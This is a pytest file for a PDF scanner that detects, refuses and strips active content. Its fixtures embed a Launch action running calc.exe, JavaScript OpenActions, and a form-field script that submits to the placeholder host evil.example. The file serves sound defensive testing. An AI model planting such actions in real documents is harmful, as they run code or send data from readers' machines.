"""Active content (core.envelopes.active_content) on the places a viewer runs actions from:
the catalog, pages, annotations and form fields, chained actions, and files that need repair."""

from __future__ import annotations

import io

import pikepdf
import pytest

from core.envelopes.active_content import check_active_content, find_active_content
from core.errors import DocumentError
from tests.fixtures.pdfs import make_pdf


def _edit(data: bytes, change: object) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        change(pdf)  # type: ignore[operator]
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def _js(script: str, **more: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(script), **more)


def _annotate(pdf: pikepdf.Pdf, action: pikepdf.Object) -> None:
    link = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([10, 10, 100, 40]),
            A=action,
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([link])


def test_a_plain_contract_runs_nothing() -> None:
    pdf = make_pdf(pages=2)
    assert find_active_content(pdf) == []
    assert check_active_content(pdf, name="契約書.pdf", mode="refuse") is pdf


def test_a_link_to_a_page_is_harmless_but_a_launch_on_an_annotation_is_found() -> None:
    def goto(pdf: pikepdf.Pdf) -> None:
        target = pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])
        _annotate(pdf, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=target))

    def launch(pdf: pikepdf.Pdf) -> None:
        _annotate(pdf, pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")))

    assert find_active_content(_edit(make_pdf(pages=2), goto)) == []
    assert find_active_content(_edit(make_pdf(pages=2), launch)) == ["page 1 annotation /A"]


def test_a_script_at_the_end_of_a_chain_of_harmless_actions_is_found() -> None:
    def chained(pdf: pikepdf.Pdf) -> None:
        harmless = pikepdf.Dictionary(
            S=pikepdf.Name.GoTo,
            D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
            Next=pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.GoTo), _js("app.alert(1)")]),
        )
        pdf.Root.OpenAction = pdf.make_indirect(harmless)

    assert find_active_content(_edit(make_pdf(), chained)) == ["catalog /OpenAction"]


def test_a_form_fields_additional_action_is_found_and_stripped() -> None:
    def field(pdf: pikepdf.Pdf) -> None:
        widget = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Tx,
                T=pikepdf.String("name"),
                Rect=pikepdf.Array([10, 10, 100, 40]),
                AA=pikepdf.Dictionary(K=_js("event.rc = submit('http://evil.example/')")),
            )
        )
        pdf.pages[0].obj.Annots = pikepdf.Array([widget])
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))

    scripted = _edit(make_pdf(), field)
    assert sorted(find_active_content(scripted)) == ["form field /AA", "page 1 annotation /AA"]
    with pytest.raises(DocumentError) as refused:
        check_active_content(scripted, name="請書.pdf", mode="refuse")
    assert refused.value.code == "document.active_content"
    assert "「請書.pdf」" in refused.value.message_ja
    stripped = check_active_content(scripted, name="請書.pdf", mode="strip")
    assert find_active_content(stripped) == []
    assert b"evil.example" not in stripped
    with pikepdf.open(io.BytesIO(stripped)) as pdf:
        assert len(pdf.pages) == 2 and str(pdf.Root.AcroForm.Fields[0].T) == "name"


def test_a_file_with_a_broken_cross_reference_table_is_read_through_qpdfs_repair() -> None:
    scripted = _edit(make_pdf(), lambda pdf: setattr(pdf.Root, "OpenAction", _js("app.alert(1)")))
    offset = scripted.rindex(b"startxref")
    broken = scripted[:offset] + b"startxref\n999999\n%%EOF\n"
    assert find_active_content(broken) == ["catalog /OpenAction"]


def test_what_no_reader_can_parse_is_refused_only_when_it_names_an_action() -> None:
    assert find_active_content(b"%PDF-1.7\n garbage with no structure\n%%EOF") == []
    found = find_active_content(b"%PDF-1.7\n << /OpenAction << /S /JavaScript >> >> junk")
    assert len(found) == 1 and found[0].startswith("unreadable structure with action names")
